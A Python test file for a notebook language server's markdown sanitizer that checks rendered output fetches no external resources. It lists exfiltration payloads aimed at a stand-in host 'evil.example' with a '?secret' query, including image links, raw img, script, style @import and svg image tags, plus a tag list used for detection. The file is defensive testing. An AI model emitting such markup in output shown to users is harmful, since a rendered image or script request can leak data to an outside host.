"""What is shown in an editor fetches nothing, whatever a model, an error or an output says."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from ai_notebook_ls.core.harmless import harmless

FETCHING = {"img", "image", "script", "iframe", "link", "video", "audio", "source", "object", "embed", "style", "svg"}
URL = "https://evil.example/x.png?secret"


class Fetched(HTMLParser):
    """The addresses that a page would ask for by itself."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FETCHING or any(name in ("src", "background", "srcset", "poster") for name, _ in attrs):
            self.found.append(tag)


def fetched(markdown: str) -> list[str]:
    reader = Fetched()
    reader.feed(MarkdownIt("commonmark", {"html": True}).render(markdown))
    return reader.found


PICTURES = [
    f"![x]({URL})",
    f"![x][p]\n\n[p]: {URL}",
    f"![p]\n\n[p]: {URL}",
    f"![[x]]({URL})",
    f"`` ` `` ![x]({URL})",
    f"```\ncode\n````\n![x]({URL})",
    f"[![x]({URL})](https://a.example)",
    f'<img src="{URL}">',
    f'<IMG\nsrc="{URL}">',
    f'<div><table background="{URL}"><tr><td>x</td></tr></table></div>',
    f'<input type="image" src="{URL}">',
    f"<style>@import url({URL})</style>",
    f'<svg><image href="{URL}"/></svg>',
    f"<script src={URL}></script>",
]


@pytest.mark.parametrize("markdown", PICTURES)
def test_nothing_is_fetched(markdown: str) -> None:
    assert fetched(markdown), "it would be"
    assert fetched(harmless(markdown)) == []


@given(
    st.lists(st.sampled_from([*PICTURES, "`", "```", "\n", "!", "[", "<", "\\", "x", "    ", "> ", "- "]), max_size=8)
)
def test_nothing_is_fetched_whatever_stands_around_it(parts: list[str]) -> None:
    assert fetched(harmless("".join(parts))) == []


@pytest.mark.parametrize(
    "markdown",
    ["", "**a** < b", "x != [1]", "`df[df.a < 3]`", "[docs](https://docs.python.org)", "<b>", "List[int] -> Dict"],
)
def test_what_fetches_nothing_stays(markdown: str) -> None:
    assert harmless(markdown) == markdown
